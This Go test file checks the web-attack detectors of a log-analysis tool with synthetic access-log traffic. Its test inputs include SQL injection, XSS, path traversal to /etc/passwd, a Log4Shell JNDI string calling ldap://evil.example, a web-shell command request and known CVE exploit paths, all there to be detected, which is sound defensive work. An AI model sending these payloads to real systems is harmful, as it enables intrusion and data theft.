package web

import (
	"context"
	"fmt"
	"net/netip"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"winnow/internal/detect"
	"winnow/internal/event"
	"winnow/internal/parse/access"
)

var t0 = time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)

// scenario builds HTTP events in time order.
type scenario struct {
	evs  []event.Event
	line int64
}

type req struct {
	method, target string
	status         int
	ua, ref, user  string
	bytes          int64
	site           string
}

func (s *scenario) add(t time.Time, src string, r req) {
	s.line++
	if r.method == "" {
		r.method = "GET"
	}
	if r.status == 0 {
		r.status = 200
	}
	if r.bytes == 0 {
		r.bytes = 1234
	}
	path, query, _ := strings.Cut(r.target, "?")
	h := &event.HTTP{Site: r.site, Method: r.method, Path: path, Query: query, Status: r.status, Bytes: r.bytes,
		Referrer: r.ref, UserAgent: r.ua, Protocol: "HTTP/1.1"}
	h.PathDecoded = access.Decode(path, false)
	h.QueryDecoded = access.Decode(query, true)
	if i := strings.LastIndexByte(h.PathDecoded, '.'); i > strings.LastIndexByte(h.PathDecoded, '/') {
		h.Ext = strings.ToLower(h.PathDecoded[i+1:])
	}
	e := event.Event{Time: t, Kind: event.KindHTTP, Action: event.ActHTTPRequest, SrcIP: netip.MustParseAddr(src), User: r.user,
		HTTP: h, Count: 1, Ref: event.Ref{File: "access.log", Line: s.line}}
	if r.status >= 400 {
		e.Outcome = event.OutcomeFailure
	} else {
		e.Outcome = event.OutcomeSuccess
	}
	e.Raw = []byte(fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"-\" %q", src, t.Format(time.RFC3339), r.method, r.target, r.status, r.bytes, r.ua))
	s.evs = append(s.evs, e)
}

// every adds n requests from src, one every step, with target(i).
func (s *scenario) every(start time.Time, step time.Duration, n int, src string, mk func(i int) req) time.Time {
	for i := 0; i < n; i++ {
		s.add(start.Add(time.Duration(i)*step), src, mk(i))
	}
	return start.Add(time.Duration(n) * step)
}

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

// background adds a site's ordinary traffic: n visitors browsing pages and
// assets every minute for the given duration, so that site baselines have
// something to learn.
func (s *scenario) background(start time.Time, d time.Duration, visitors int) {
	for m := time.Duration(0); m < d; m += time.Minute {
		for v := 0; v < visitors; v++ {
			ip := fmt.Sprintf("198.51.100.%d", 1+(v+int(m/time.Minute))%200)
			t := start.Add(m + time.Duration(v)*time.Second)
			s.add(t, ip, req{target: fmt.Sprintf("/products/item-%d", v%50), ua: browser})
			s.add(t.Add(200*time.Millisecond), ip, req{target: "/static/app.css", ua: browser})
			s.add(t.Add(300*time.Millisecond), ip, req{target: "/static/app.js", ua: browser})
			if v%37 == 0 {
				s.add(t.Add(time.Second), ip, req{target: "/images/old-banner.png", status: 404, ua: browser})
			}
		}
	}
}

// run feeds the events through a real Runner (2 shards) with every web
// detector (or those with the prefix only) and returns the findings sorted.
func run(t testing.TB, evs []event.Event, only string, set map[string]string) []event.Alert {
	t.Helper()
	var reg detect.Registry
	Register(&reg)
	var en []detect.Enabled
	for _, s := range reg.Specs() {
		if only != "" && !strings.HasPrefix(s.Name, only) {
			continue
		}
		over := map[string]string{}
		for k, v := range set {
			if name, param, ok := strings.Cut(k, ":"); ok && name == s.Name {
				over[param] = v
			}
		}
		p, err := detect.NewParams(s, over)
		if err != nil {
			t.Fatal(err)
		}
		en = append(en, detect.Enabled{Spec: s, Params: p})
	}
	sort.SliceStable(evs, func(i, j int) bool { return evs[i].Time.Before(evs[j].Time) })
	var mu sync.Mutex
	var out []event.Alert
	r, err := detect.NewRunner(context.Background(), detect.RunnerConfig{Workers: 2}, en, func(a event.Alert) {
		mu.Lock()
		out = append(out, a)
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Submit(evs); err != nil {
		t.Fatal(err)
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Rule != out[j].Rule {
			return out[i].Rule < out[j].Rule
		}
		if !out[i].Start.Equal(out[j].Start) {
			return out[i].Start.Before(out[j].Start)
		}
		return out[i].Entity.Value < out[j].Entity.Value
	})
	return out
}

func byRule(as []event.Alert, rule string) []event.Alert {
	var out []event.Alert
	for _, a := range as {
		if a.Rule == rule {
			out = append(out, a)
		}
	}
	return out
}

func about(as []event.Alert, ip string) []event.Alert {
	var out []event.Alert
	for _, a := range as {
		if a.Entity.Value == ip {
			out = append(out, a)
		}
	}
	return out
}

// one returns the single finding of rule on entity.
func one(t *testing.T, as []event.Alert, rule, entity string) event.Alert {
	t.Helper()
	var found []event.Alert
	for _, a := range byRule(as, rule) {
		if a.Entity.Value == entity {
			found = append(found, a)
		}
	}
	if len(found) != 1 {
		t.Fatalf("%d %s findings on %s, want 1; all: %v", len(found), rule, entity, summary(as))
	}
	checkAlert(t, found[0])
	return found[0]
}

// none fails if any finding of rule is at or above severity sev.
func none(t *testing.T, as []event.Alert, rule, entity string, sev int) {
	t.Helper()
	for _, a := range as {
		if (rule == "" || a.Rule == rule) && (entity == "" || a.Entity.Value == entity) && a.Severity >= sev {
			t.Errorf("unexpected %s on %s (%s): %s", a.Rule, a.Entity.Value, event.SeverityName(a.Severity), a.Description)
		}
	}
}

func summary(as []event.Alert) []string {
	var out []string
	for _, a := range as {
		out = append(out, fmt.Sprintf("%s/%s/%s", a.Rule, a.Entity.Value, event.SeverityName(a.Severity)))
	}
	return out
}

// checkAlert: every finding has what the contract asks for.
func checkAlert(t *testing.T, a event.Alert) {
	t.Helper()
	if a.Entity.Type != event.EntityIP || !a.SourceIP.IsValid() || a.SourceIP.String() != a.Entity.Value {
		t.Errorf("%s: entity %v, source %v", a.Rule, a.Entity, a.SourceIP)
	}
	if a.Description == "" || len(a.Evidence) == 0 || len(a.Samples) == 0 || len(a.Techniques) == 0 {
		t.Errorf("%s: missing description, evidence, samples or techniques: %+v", a.Rule, a)
	}
	if a.Start.IsZero() || a.End.Before(a.Start) {
		t.Errorf("%s: range %v → %v", a.Rule, a.Start, a.End)
	}
	if a.Score <= 0 || a.Score > 1 || a.Severity < event.SeverityLow {
		t.Errorf("%s: score %v severity %d", a.Rule, a.Score, a.Severity)
	}
	for _, s := range a.Samples {
		if s.File == "" || s.Line <= 0 || s.Text == "" {
			t.Errorf("%s: bad sample %+v", a.Rule, s)
		}
	}
}

func num(t *testing.T, a event.Alert, key string) float64 {
	t.Helper()
	switch v := a.Evidence[key].(type) {
	case int:
		return float64(v)
	case int32:
		return float64(v)
	case int64:
		return float64(v)
	case float64:
		return v
	}
	t.Fatalf("%s: evidence %q is %T", a.Rule, key, a.Evidence[key])
	return 0
}

func TestScannerAgainstSiteBaseline(t *testing.T) {
	var s scenario
	s.background(t0, 2*time.Hour, 60)
	start := t0.Add(30 * time.Minute)
	s.every(start, 300*time.Millisecond, 400, "203.0.113.7", func(i int) req {
		st := 404
		if i%10 == 0 {
			st = 200
		}
		return req{target: fmt.Sprintf("/dir%d/file%d.bak", i%20, i), status: st, ua: browser}
	})
	// a person following three dead links
	s.add(start, "198.18.0.9", req{target: "/gone-1", status: 404, ua: browser})
	s.add(start.Add(time.Minute), "198.18.0.9", req{target: "/gone-2", status: 404, ua: browser})
	s.add(start.Add(2*time.Minute), "198.18.0.9", req{target: "/", ua: browser})
	as := run(t, s.evs, "web.scanner", nil)
	a := one(t, as, "web.scanner", "203.0.113.7")
	if a.Severity < event.SeverityMedium || num(t, a, "distinct_missing") != 360 {
		t.Errorf("scanner finding %s: %v", event.SeverityName(a.Severity), a.Evidence)
	}
	if num(t, a, "site_not_found_ratio") > 0.02 {
		t.Errorf("site ratio excludes the scanner itself: %v", a.Evidence["site_not_found_ratio"])
	}
	none(t, as, "", "198.18.0.9", event.SeverityLow)
	none(t, as, "", "198.51.100.1", event.SeverityLow)
}

// TestScannerBaselineRises: on a site where every client hits many dead
// links (a broken template), the bar rises and an ordinary 12-miss client
// is not a scanner.
func TestScannerBaselineRises(t *testing.T) {
	var s scenario
	for m := 0; m < 120; m++ {
		for v := 0; v < 3; v++ {
			ip := fmt.Sprintf("198.51.%d.%d", 101+(m*3+v)/250, 1+(m*3+v)%250)
			base := t0.Add(time.Duration(m) * time.Minute)
			for k := 0; k < 8; k++ { // every visitor misses 8 broken images
				s.add(base.Add(time.Duration(k)*time.Second), ip, req{target: fmt.Sprintf("/img/broken-%d.png", k), status: 404, ua: browser})
				s.add(base.Add(time.Duration(k)*time.Second), ip, req{target: "/page", ua: browser})
			}
		}
	}
	s.every(t0.Add(3*time.Hour), time.Second, 24, "203.0.113.8", func(i int) req {
		if i%2 == 0 {
			return req{target: fmt.Sprintf("/img/broken-%d.png", i/2), status: 404, ua: browser}
		}
		return req{target: "/page", ua: browser}
	})
	as := run(t, s.evs, "web.scanner", nil)
	none(t, as, "web.scanner", "203.0.113.8", event.SeverityLow)
}

func TestCrawlerIsNotAScanner(t *testing.T) {
	var s scenario
	s.background(t0, time.Hour, 30)
	// Googlebot from its range with 30 dead links among 300 pages
	s.every(t0, 10*time.Second, 300, "66.249.66.1", func(i int) req {
		if i%10 == 0 {
			return req{target: fmt.Sprintf("/old/product-%d", i), status: 404, ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}
		}
		return req{target: fmt.Sprintf("/products/p-%d", i), ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}
	})
	// the same behaviour from outside Google's ranges is a fake crawler
	s.every(t0, 10*time.Second, 30, "203.0.113.66", func(i int) req {
		return req{target: fmt.Sprintf("/products/p-%d", i), ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}
	})
	as := run(t, s.evs, "", nil)
	none(t, as, "", "66.249.66.1", event.SeverityLow)
	a := one(t, as, "web.user_agent", "203.0.113.66")
	if a.Evidence["fake_crawler"] != "Googlebot" {
		t.Errorf("fake crawler evidence: %v", a.Evidence)
	}
}

func TestInjectionDetector(t *testing.T) {
	var s scenario
	s.background(t0, 30*time.Minute, 10)
	s.add(t0.Add(time.Minute), "203.0.113.20", req{target: "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", ua: browser})
	s.add(t0.Add(2*time.Minute), "203.0.113.20", req{target: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ua: browser})
	s.add(t0.Add(3*time.Minute), "203.0.113.21", req{target: "/", ua: "${jndi:ldap://evil.example/a}"})
	s.add(t0.Add(4*time.Minute), "203.0.113.22", req{target: "/dl?file=..%252f..%252f..%252fetc%252fpasswd", status: 404, ua: browser})
	// benign look-alikes
	s.add(t0.Add(5*time.Minute), "203.0.113.23", req{target: "/search?q=o%27neill+jacket", ua: browser})
	s.add(t0.Add(5*time.Minute), "203.0.113.23", req{target: "/search?q=rock+%26+roll", ua: browser})
	s.add(t0.Add(5*time.Minute), "203.0.113.23", req{target: "/search?q=select+fit+chinos", ua: browser, ref: "https://www.google.com/search?q=union+jack+or+1+more"})
	as := run(t, s.evs, "web.injection", nil)
	a := one(t, as, "web.injection", "203.0.113.20")
	cls := a.Evidence["classes"].(map[string]int32)
	if cls["sql"] != 1 || cls["xss"] != 1 || a.Severity != event.SeverityMedium {
		t.Errorf("classes %v severity %d: %s", cls, a.Severity, a.Description)
	}
	if !strings.Contains(a.Description, "union select") || !strings.Contains(a.Description, "<script") {
		t.Errorf("description does not show the fragments: %s", a.Description)
	}
	if j := one(t, as, "web.injection", "203.0.113.21"); j.Severity != event.SeverityHigh || j.Evidence["remote_execution"] != true {
		t.Errorf("jndi: %s %v", event.SeverityName(j.Severity), j.Evidence)
	}
	one(t, as, "web.injection", "203.0.113.22")
	none(t, as, "", "203.0.113.23", event.SeverityLow)
}

func TestSensitiveFiles(t *testing.T) {
	var s scenario
	s.every(t0, time.Second, 6, "203.0.113.30", func(i int) req {
		return req{target: []string{"/.env", "/.git/config", "/backup.zip", "/wp-config.php.bak", "/index.html", "/.env.production"}[i], status: 404, ua: browser}
	})
	s.add(t0, "203.0.113.31", req{target: "/.env", status: 200, bytes: 812, ua: "curl/8.5.0"})
	s.add(t0, "203.0.113.32", req{target: "/.env", status: 404, ua: browser})
	s.add(t0, "127.0.0.1", req{target: "/server-status", status: 200, ua: "Go-http-client/1.1"})
	s.add(t0, "203.0.113.33", req{target: "/scripts/wrap.backup/main.py", ua: browser}) // a directory named .backup
	as := run(t, s.evs, "web.sensitive_file", nil)
	if a := one(t, as, "web.sensitive_file", "203.0.113.30"); a.Severity != event.SeverityMedium || num(t, a, "sensitive_paths") != 5 {
		t.Errorf("probe: %s %v", event.SeverityName(a.Severity), a.Evidence)
	}
	if a := one(t, as, "web.sensitive_file", "203.0.113.31"); a.Severity != event.SeverityHigh {
		t.Errorf("exposed .env: %s", event.SeverityName(a.Severity))
	}
	if a := one(t, as, "web.sensitive_file", "203.0.113.32"); a.Severity != event.SeverityLow {
		t.Errorf("a single probe: %s", event.SeverityName(a.Severity))
	}
	none(t, as, "", "127.0.0.1", event.SeverityLow)
	none(t, as, "", "203.0.113.33", event.SeverityLow)
}

func TestNeverServedLearnsFromTwoHundreds(t *testing.T) {
	var s scenario
	s.background(t0, time.Hour, 10)
	// the site serves WordPress to many clients…
	for i := 0; i < 5; i++ {
		s.add(t0.Add(time.Duration(i)*time.Minute), fmt.Sprintf("198.18.1.%d", i+1), req{target: "/wp-content/themes/shop/style.css", ua: browser})
	}
	// …but never PHP pages or Tomcat
	s.every(t0.Add(40*time.Minute), time.Second, 4, "203.0.113.40", func(i int) req {
		return req{target: []string{"/wp-login.php", "/phpmyadmin/", "/manager/html", "/shell.aspx"}[i], status: 404, ua: browser}
	})
	as := run(t, s.evs, "web.never_served", nil)
	a := one(t, as, "web.never_served", "203.0.113.40")
	probes := a.Evidence["probes"].(map[string]int32)
	if probes["framework:wordpress"] != 0 {
		t.Errorf("wordpress is served here, yet counted as a probe: %v", probes)
	}
	if a.Severity != event.SeverityMedium || a.Evidence["probe_paths"] != 3 {
		t.Errorf("%s %v", event.SeverityName(a.Severity), a.Evidence)
	}
}

func TestLoginHammeringAndSuccess(t *testing.T) {
	var s scenario
	s.background(t0, time.Hour, 5)
	end := s.every(t0, 5*time.Second, 60, "203.0.113.50", func(i int) req {
		return req{method: "POST", target: "/login", status: 200, ua: browser}
	})
	s.add(end, "203.0.113.50", req{method: "POST", target: "/login", status: 302, ua: browser})
	// a person who mistypes twice, and a busy API client re-authenticating hourly
	s.add(t0, "198.18.2.1", req{method: "POST", target: "/login", status: 200, ua: browser})
	s.add(t0.Add(10*time.Second), "198.18.2.1", req{method: "POST", target: "/login", status: 200, ua: browser})
	s.add(t0.Add(20*time.Second), "198.18.2.1", req{method: "POST", target: "/login", status: 302, ua: browser})
	s.every(t0, time.Second, 3600, "198.18.2.2", func(i int) req {
		if i%600 == 0 {
			return req{method: "POST", target: "/api/auth/token", status: 200, ua: "python-requests/2.31.0"}
		}
		return req{target: "/api/v1/stock?sku=1", ua: "python-requests/2.31.0", user: "acme"}
	})
	// HTTP Basic guessing of many accounts
	s.every(t0, 2*time.Second, 40, "203.0.113.51", func(i int) req {
		return req{target: "/admin/", status: 401, user: fmt.Sprintf("user%d", i%8), ua: browser}
	})
	as := run(t, s.evs, "web.login_hammering", nil)
	a := one(t, as, "web.login_hammering", "203.0.113.50")
	if a.Severity != event.SeverityHigh || num(t, a, "successes_after") != 1 {
		t.Errorf("stuffing then success: %s %v", event.SeverityName(a.Severity), a.Evidence)
	}
	b := one(t, as, "web.login_hammering", "203.0.113.51")
	if num(t, b, "accounts_tried") != 8 || len(b.Related) == 0 {
		t.Errorf("basic auth: %v related %v", b.Evidence, b.Related)
	}
	none(t, as, "", "198.18.2.1", event.SeverityLow)
	none(t, as, "", "198.18.2.2", event.SeverityLow)
}

func TestErrorStormAndBadRequests(t *testing.T) {
	var s scenario
	s.background(t0, 30*time.Minute, 5)
	s.every(t0, 2*time.Second, 100, "203.0.113.60", func(i int) req {
		if i%2 == 0 {
			return req{target: fmt.Sprintf("/api/x?p=%d", i), status: 500, ua: browser}
		}
		return req{target: "/api/x", ua: browser}
	})
	s.every(t0, time.Second, 40, "203.0.113.61", func(i int) req { return req{target: "/", status: 400, ua: ""} })
	// a busy client that sees a few 503s during a deploy
	s.every(t0, 500*time.Millisecond, 3000, "198.18.3.1", func(i int) req {
		if i >= 1000 && i < 1010 {
			return req{target: "/api/y", status: 503, ua: "python-requests/2.31.0"}
		}
		return req{target: "/api/y", ua: "python-requests/2.31.0"}
	})
	as := run(t, s.evs, "web.error_storm", nil)
	one(t, as, "web.error_storm", "203.0.113.60")
	one(t, as, "web.error_storm", "203.0.113.61")
	none(t, as, "", "198.18.3.1", event.SeverityLow)
}

func TestFloodRelativeToSiteAndClient(t *testing.T) {
	var s scenario
	s.background(t0, 3*time.Hour, 20)
	// a steady heavy API client: 200 requests a minute for three hours
	s.every(t0, 300*time.Millisecond, 36000, "198.18.4.1", func(i int) req {
		return req{target: "/api/v1/stock", ua: "python-requests/2.31.0", user: "acme"}
	})
	// a flood: 3000 a minute for four minutes
	s.every(t0.Add(time.Hour), 20*time.Millisecond, 12000, "203.0.113.70", func(i int) req {
		return req{target: fmt.Sprintf("/search?q=%d", i), ua: browser}
	})
	as := run(t, s.evs, "web.flood", nil)
	a := one(t, as, "web.flood", "203.0.113.70")
	if num(t, a, "flood_minutes") != 4 || num(t, a, "flood_requests") != 12000 {
		t.Errorf("flood evidence %v", a.Evidence)
	}
	none(t, as, "", "198.18.4.1", event.SeverityLow)
}

func TestWebShellAfterUpload(t *testing.T) {
	var s scenario
	s.background(t0, 3*time.Hour, 10)
	// the site's own PHP endpoint, reached by many clients during warm-up
	for i := 0; i < 10; i++ {
		s.add(t0.Add(time.Duration(i)*time.Minute), fmt.Sprintf("198.18.5.%d", i+1), req{target: "/api.php?x=1", ua: browser})
	}
	at := t0.Add(2 * time.Hour)
	ip := "203.0.113.80"
	s.add(at, ip, req{method: "POST", target: "/account/avatar/upload", ua: browser})
	s.add(at.Add(time.Minute), ip, req{target: "/uploads/avatars/x.php?cmd=id", ua: browser})
	s.add(at.Add(2*time.Minute), ip, req{method: "POST", target: "/uploads/avatars/x.php", ua: browser})
	// a new PHP page reached by one client, without any sign: not a shell
	s.add(at, "198.18.5.99", req{target: "/new-feature.php", ua: browser})
	as := run(t, s.evs, "web.web_shell", nil)
	a := one(t, as, "web.web_shell", ip)
	if a.Severity != event.SeverityCritical {
		t.Errorf("upload then command: %s %v", event.SeverityName(a.Severity), a.Evidence)
	}
	if a.Samples[0].Text == "" || !strings.Contains(a.Samples[0].Text, "upload") {
		t.Errorf("the upload is the first evidence line: %v", a.Samples)
	}
	none(t, as, "", "198.18.5.99", event.SeverityLow)
	none(t, as, "", "198.18.5.1", event.SeverityLow)
}

func TestUserAgents(t *testing.T) {
	var s scenario
	s.every(t0, time.Second, 30, "203.0.113.90", func(i int) req {
		return req{target: "/", ua: "sqlmap/1.7.2#stable (https://sqlmap.org)"}
	})
	uas := []string{browser, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36", "Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18"}
	s.every(t0, time.Second, 60, "203.0.113.91", func(i int) req { return req{method: "POST", target: "/login", ua: uas[i%len(uas)]} })
	// an office NAT: six people, each loading pages with their assets
	for p := 0; p < 6; p++ {
		for k := 0; k < 10; k++ {
			at := t0.Add(time.Duration(p*7+k*40) * time.Second)
			for a := 0; a < 8; a++ {
				s.add(at.Add(time.Duration(a)*100*time.Millisecond), "198.18.6.1", req{target: fmt.Sprintf("/p/%d/%d", k, a), ua: uas[p]})
			}
		}
	}
	// a Nikto scan changes its test number on every request: one agent
	s.every(t0, time.Second, 30, "203.0.113.92", func(i int) req {
		return req{target: "/", ua: fmt.Sprintf("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)", i)}
	})
	as := run(t, s.evs, "web.user_agent", nil)
	if a := one(t, as, "web.user_agent", "203.0.113.90"); a.Severity != event.SeverityMedium {
		t.Errorf("sqlmap: %s", event.SeverityName(a.Severity))
	}
	if a := one(t, as, "web.user_agent", "203.0.113.91"); a.Severity != event.SeverityMedium || !strings.Contains(a.Description, "rotated") {
		t.Errorf("rotation: %s %s", event.SeverityName(a.Severity), a.Description)
	}
	none(t, as, "", "198.18.6.1", event.SeverityMedium)
	if a := one(t, as, "web.user_agent", "203.0.113.92"); strings.Contains(a.Description, "rotated") {
		t.Errorf("nikto's counter is not rotation: %s", a.Description)
	}
}

// TestRemoteUserIsRelated: a finding on a client that authenticated names
// the account, so that correlation links the IP with the user.
func TestRemoteUserIsRelated(t *testing.T) {
	var s scenario
	s.every(t0, time.Second, 5, "203.0.113.95", func(i int) req {
		return req{target: "/reports?id=1%20OR%201=1--", user: "alice", ua: browser}
	})
	as := run(t, s.evs, "web.injection", nil)
	a := one(t, as, "web.injection", "203.0.113.95")
	if a.User != "alice" || len(a.Related) != 1 || a.Related[0] != (event.Entity{Type: event.EntityUser, Value: "alice"}) {
		t.Errorf("user %q related %v", a.User, a.Related)
	}
}

// TestCapsShedAndStillReport: with room for one client per shard, a flood
// of throw-away clients sheds state (counted) but an open episode that is
// shed is still judged.
func TestCapsShedAndStillReport(t *testing.T) {
	var s scenario
	s.every(t0, time.Second, 40, "203.0.113.99", func(i int) req {
		return req{target: fmt.Sprintf("/x?id=%d%%27%%20or%%20%%271%%27=%%271", i), ua: browser}
	})
	for i := 0; i < 500; i++ {
		s.add(t0.Add(41*time.Second+time.Duration(i)*time.Millisecond), fmt.Sprintf("198.19.%d.%d", i/250, 1+i%250),
			req{target: "/y?q=%3Cscript%3Ealert(1)%3C/script%3E", ua: browser})
	}
	var reg detect.Registry
	Register(&reg)
	spec, _ := reg.Get("web.injection")
	p, err := detect.NewParams(spec, map[string]string{"max_entities": "1"})
	if err != nil {
		t.Fatal(err)
	}
	var out []event.Alert
	var mu sync.Mutex
	r, err := detect.NewRunner(context.Background(), detect.RunnerConfig{Workers: 1}, []detect.Enabled{{Spec: spec, Params: p}}, func(a event.Alert) {
		mu.Lock()
		out = append(out, a)
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Submit(s.evs); err != nil {
		t.Fatal(err)
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	st := r.Stats()["web.injection"]
	if st.Shed < 400 || st.Entities > 1 {
		t.Errorf("stats %+v", st)
	}
	if a := one(t, out, "web.injection", "203.0.113.99"); num(t, a, "payload_requests") != 40 {
		t.Errorf("shed episode: %v", a.Evidence)
	}
}

func TestParamsValidated(t *testing.T) {
	var reg detect.Registry
	Register(&reg)
	if n := len(reg.Specs()); n != 11 {
		t.Fatalf("%d web specs", n)
	}
	for _, s := range reg.Specs() {
		if s.Summary == "" || len(s.Techniques) == 0 || len(s.Params) == 0 {
			t.Errorf("%s: spec incomplete", s.Name)
		}
		for _, p := range s.Params {
			if p.Doc == "" {
				t.Errorf("%s.%s: undocumented", s.Name, p.Name)
			}
		}
		if _, err := s.New(mustParams(t, s, nil)); err != nil {
			t.Errorf("%s: defaults rejected: %v", s.Name, err)
		}
		if _, err := s.New(mustParams(t, s, map[string]string{"max_entities": "0"})); err == nil {
			t.Errorf("%s: max_entities=0 accepted", s.Name)
		}
		if _, err := s.New(mustParams(t, s, map[string]string{"episode_gap": "soon"})); err == nil {
			t.Errorf("%s: bad duration accepted", s.Name)
		}
	}
}

func mustParams(t *testing.T, s *detect.Spec, o map[string]string) detect.Params {
	t.Helper()
	p, err := detect.NewParams(s, o)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestRareUserAgentFamily: after the site's warm-up, a client whose
// browser family (IE on Windows) is rare on the site and that meets many
// 404s is reported low; a client of the site's common family doing the
// same, a real Googlebot, a rare-family visitor reading two pages and a
// rare client before the warm-up are not.
func TestRareUserAgentFamily(t *testing.T) {
	const ie = "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko"
	var s scenario
	// a rare client while the site is still learning (first minutes)
	s.every(t0.Add(30*time.Second), time.Second, 5, "203.0.113.120", func(i int) req {
		return req{target: fmt.Sprintf("/early/%d", i), status: 404, ua: ie}
	})
	s.background(t0, 3*time.Hour, 60) // ≈ 33,000 requests of Chrome on Windows
	at := t0.Add(90 * time.Minute)
	s.every(at, 2*time.Second, 12, "203.0.113.121", func(i int) req {
		st := 200
		if i%2 == 1 {
			st = 404
		}
		return req{target: fmt.Sprintf("/old/page-%d.html", i), status: st, ua: ie}
	})
	s.every(at, 2*time.Second, 12, "203.0.113.122", func(i int) req {
		st := 200
		if i%2 == 1 {
			st = 404
		}
		return req{target: fmt.Sprintf("/old/page-%d.html", i), status: st, ua: browser}
	})
	s.every(at, 2*time.Second, 3, "203.0.113.123", func(i int) req { return req{target: "/products/item-1", ua: ie} })
	s.every(at, 3*time.Second, 40, "66.249.66.1", func(i int) req {
		st := 200
		if i%8 == 0 {
			st = 404
		}
		return req{target: fmt.Sprintf("/products/item-%d", i), status: st, ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}
	})
	as := run(t, s.evs, "web.rare_user_agent", nil)
	a := one(t, as, "web.rare_user_agent", "203.0.113.121")
	if a.Severity != event.SeverityLow || a.Evidence["family"] != "IE on Windows" || num(t, a, "family_share") >= 0.001 ||
		num(t, a, "client_errors") != 6 || num(t, a, "family_requests") != 12 || !strings.Contains(a.Description, "Chrome on Windows") {
		t.Errorf("rare family: %s %s %v", event.SeverityName(a.Severity), a.Description, a.Evidence)
	}
	if top, _ := a.Evidence["site_top"].([]string); len(top) == 0 || !strings.HasPrefix(top[0], "Chrome on Windows") {
		t.Errorf("site top: %v", a.Evidence["site_top"])
	}
	for _, ip := range []string{"203.0.113.120", "203.0.113.122", "203.0.113.123", "66.249.66.1"} {
		if got := about(byRule(as, "web.rare_user_agent"), ip); len(got) != 0 {
			t.Errorf("%s flagged: %s", ip, got[0].Description)
		}
	}
	// with every web detector on, nothing here is medium or above but the
	// rare client's own (benign-looking) pages
	none(t, run(t, s.evs, "web.", nil), "web.rare_user_agent", "", event.SeverityMedium)
	// the early client is spared by the warm-up alone
	as = run(t, s.evs, "web.rare_user_agent", map[string]string{"web.rare_user_agent:warmup": "10"})
	if a := one(t, as, "web.rare_user_agent", "203.0.113.120"); a.Severity != event.SeverityLow {
		t.Errorf("early client without warm-up: %s", event.SeverityName(a.Severity))
	}
}

// TestInjectionPastPadding (issue 10 item 18): a payload behind 5,000
// bytes of padding — in another parameter, in the same one, or in the
// user agent — is found, and the padding itself is reported; a long
// benign query is not.
func TestInjectionPastPadding(t *testing.T) {
	pad := strings.Repeat("A", 5000)
	words := strings.Repeat("shoes+", 1200) // 7,200 bytes of a real search, no run of one byte
	var s scenario
	s.background(t0, 30*time.Minute, 10)
	cases := []struct {
		ip, class string
		r         req
	}{
		{"203.0.113.30", "sql", req{target: "/x?pad=" + pad + "&id=1%27%20OR%201=1--", ua: browser}},
		{"203.0.113.31", "jndi", req{target: "/", ua: pad + "${jndi:ldap://evil.example/a}"}},
		{"203.0.113.32", "xss", req{target: "/s?q=" + pad + "%3Cscript%3Ealert(1)%3C/script%3E", ua: browser}},
		{"203.0.113.33", "traversal", req{target: "/dl?pad=" + pad + "&file=../../../../etc/passwd", ua: browser}},
		// Many ordinary parameters before the payload: no padding, but
		// past the first 4 KiB.
		{"203.0.113.34", "sql", req{target: "/x?" + strings.Repeat("a=bcdefgh&", 600) + "id=1%27%20UNION%20SELECT%20password%20FROM%20users--", ua: browser}},
	}
	for i, c := range cases {
		s.add(t0.Add(time.Duration(i+1)*time.Minute), c.ip, c.r)
	}
	s.add(t0.Add(9*time.Minute), "203.0.113.39", req{target: "/search?q=" + words, ua: browser})
	as := run(t, s.evs, "web.injection", nil)
	for _, c := range cases {
		a := one(t, as, "web.injection", c.ip)
		cls := a.Evidence["classes"].(map[string]int32)
		if cls[c.class] != 1 {
			t.Errorf("%s: classes %v, want %s: %s", c.ip, cls, c.class, a.Description)
		}
		if padded := cls["padding"] == 1; padded != (c.ip != "203.0.113.34") {
			t.Errorf("%s: padding reported = %v: %v", c.ip, padded, cls)
		}
	}
	none(t, as, "", "203.0.113.39", event.SeverityLow)
}

func TestMatchExploit(t *testing.T) {
	f := func(target, want string) {
		t.Helper()
		got := ""
		if x := matchExploit(target); x != nil {
			got = x.id
		}
		if got != want {
			t.Errorf("matchExploit(%q) = %q, want %q", target, got, want)
		}
	}
	f("/vendor/phpunit/phpunit/src/util/php/eval-stdin.php", "CVE-2017-9841")
	f("/lib/phpunit/phpunit/src/util/php/eval-stdin.php", "CVE-2017-9841")
	f("/cgi-bin/../../../../bin/sh", "CVE-2021-41773")
	f("/gponform/diag_form?images/", "CVE-2018-10561")
	f("/actuator/gateway/routes", "CVE-2022-22947")
	f("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array", "CVE-2018-20062")
	f("/cgi-bin/test.cgi", "")
	f("/products/shoes", "")
	f("/solr", "")
	f("/api/v1/orders", "")
}
